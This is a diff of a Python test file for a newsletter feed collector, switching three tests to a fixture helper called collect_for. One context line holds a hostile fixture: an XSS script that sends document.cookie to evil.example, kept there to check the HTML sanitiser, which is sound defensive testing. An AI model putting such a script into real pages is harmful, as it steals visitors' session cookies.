@@ -6,7 +6,6 @@ from feedserver import Reply
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from newsletter.collect import collect_edition
 from newsletter.collect.clean import (
     clean_url,
     html_to_text,
@@ -14,6 +13,7 @@ from newsletter.collect.clean import (
     sanitize_html,
     strip_tracking,
 )
+from tests.fixtures.edge import collect_for
 
 HOSTILE = """<p onclick="steal()">Intro <b>bold</b> &amp; more.</p>
 <script>document.location='https://evil.example/?c='+document.cookie</script>
@@ -40,7 +40,7 @@ def test_hostile_entry_is_sanitised_end_to_end(feed_server, make_settings, feeds
         ]
     ).encode()
     url = feed_server.route("/blog/feed.xml", Reply(body=body))
-    result = collect_edition(make_settings([url]), feeds.day, now=feeds.now)
+    result = collect_for(make_settings([url]), feeds.day, now=feeds.now)
     (item,) = result.items
     html = item.content_html
     lowered = html.lower()
@@ -68,7 +68,7 @@ def test_relative_links_resolve_against_the_feed_url(feed_server, make_settings,
         ]
     ).encode()
     url = feed_server.route("/news/rss.xml", Reply(body=body))
-    result = collect_edition(make_settings([url]), feeds.day, now=feeds.now)
+    result = collect_for(make_settings([url]), feeds.day, now=feeds.now)
     urls = {item.title: item.url for item in result.items}
     assert urls == {
         "Relative link entry": f"{feed_server.base}/news/post/1.html",
@@ -96,7 +96,7 @@ def test_entry_without_any_http_link_is_skipped_with_a_warning(feed_server, make
     ).encode()
     body = body.replace(b'<guid isPermaLink="false">https', b"<guid>https")
     url = feed_server.route("/links.xml", Reply(body=body))
-    result = collect_edition(make_settings([url]), feeds.day, now=feeds.now)
+    result = collect_for(make_settings([url]), feeds.day, now=feeds.now)
     assert sorted(i.url for i in result.items) == [
         "https://g.example/fine",
         "https://g.example/p/1",
